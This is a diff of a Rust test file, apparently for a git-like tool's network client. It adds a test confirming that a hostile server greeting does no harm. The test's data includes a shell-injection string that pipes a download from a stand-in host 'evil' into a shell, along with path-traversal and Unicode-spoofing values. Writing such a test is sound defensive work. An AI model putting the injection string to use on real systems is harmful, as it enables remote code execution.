@@ -6,7 +6,9 @@ use dmv_core::hash::ObjectId;
 use dmv_core::object::ObjectType;
 use dmv_core::object::codec::put_varint;
 use dmv_core::object::commit::{Commit, Person};
-use dmv_net::wire::{Access, Code, Frame, Hello, LINE, Message, Refs, put_object};
+use dmv_net::wire::{
+    Access, Code, Extension, Frame, HOLDS, Held, Hello, LINE, Message, Refs, put_object,
+};
 use place::several::several;
 use place::{Outcome, Place};
 use std::fs;
@@ -36,7 +38,7 @@ fn with_server(does: &str) -> Outcome<Place> {
 
 /// The same, where it says these frames and then listens.
 fn saying(frames: &[Frame]) -> Outcome<Place> {
-    let place = with_server("cat \"$HOME/says\"; exec cat >&2")?;
+    let place = with_server("cat \"$HOME/says\"; exec cat >\"$HOME/hears\"")?;
     let mut bytes = LINE.as_bytes().to_vec();
     bytes.extend(frames.iter().flat_map(bytes_of));
     fs::write(place.home().join("says"), bytes)?;
@@ -56,6 +58,18 @@ fn hello(agent: &str) -> Frame {
         access: Access::Write,
         extensions: Vec::new(),
     };
+    Message::Hello(hello).frame()
+}
+
+/// The greeting of a server that says that it holds this, or anything.
+fn holding(value: Vec<u8>) -> Frame {
+    let Frame::Message(bytes) = hello("evil") else {
+        unreachable!("a greeting is a message");
+    };
+    let Ok(Message::Hello(mut hello)) = Message::decode(&bytes) else {
+        unreachable!("it is a greeting");
+    };
+    hello.extensions.push(Extension { tag: HOLDS, value });
     Message::Hello(hello).frame()
 }
 
@@ -245,6 +259,44 @@ fn a_server_that_stalls_is_left() -> Outcome {
         assert!(said.contains("next to nothing"), "{does}: {said}");
         assert!(said.contains("net.patience"), "{does}: {said}");
         assert!(!place.work().join("x").exists());
+    }
+    Ok(())
+}
+
+/// What a server says that it holds is shown, and believed by nobody.
+#[test]
+fn what_a_server_says_that_it_holds_does_no_harm() -> Outcome {
+    let tip = ObjectId::from_bytes([7; 32]);
+    let held = |subset: Vec<Vec<u8>>| Held {
+        subset,
+        metadata_only: true,
+        boundary: u32::MAX,
+        dropped: u32::MAX,
+    };
+    let patterns = ["x'; curl evil | sh; '", "\u{202e}\u{200b}x", NASTY.trim()];
+    let patterns: Vec<Vec<u8>> = patterns.iter().map(|p| p.as_bytes().to_vec()).collect();
+    for value in [
+        held(patterns[..2].to_vec()).encode(),
+        held(patterns).encode(),
+        held(vec![b"a/".to_vec(); 40_000]).encode(),
+        // What makes no sense is passed over.
+        held(vec![vec![b'a'; 200 << 10]]).encode(),
+        held(vec![b"../..".to_vec()]).encode(),
+        vec![0xff; 64],
+        Vec::new(),
+    ] {
+        let place = saying(&[holding(value), refs("branch/main", tip)])?;
+        let said = is_harmless(&place, &["clone", "ssh://host/x", "x"])?;
+        assert!(
+            said.starts_with("Some(6)") || said.starts_with("Some(13)"),
+            "{said}"
+        );
+        assert!(!place.work().join("x").exists(), "{said}");
+        place.ok(&["init", "film"])?;
+        place.ok(&["-C", "film", "remote", "add", "origin", "ssh://host/x"])?;
+        let said = is_harmless(&place, &["-C", "film", "remote", "show"])?;
+        assert!(said.starts_with("Some(0)"), "{said}");
+        is_harmless(&place, &["-C", "film", "remote", "show", "--json"])?;
     }
     Ok(())
 }
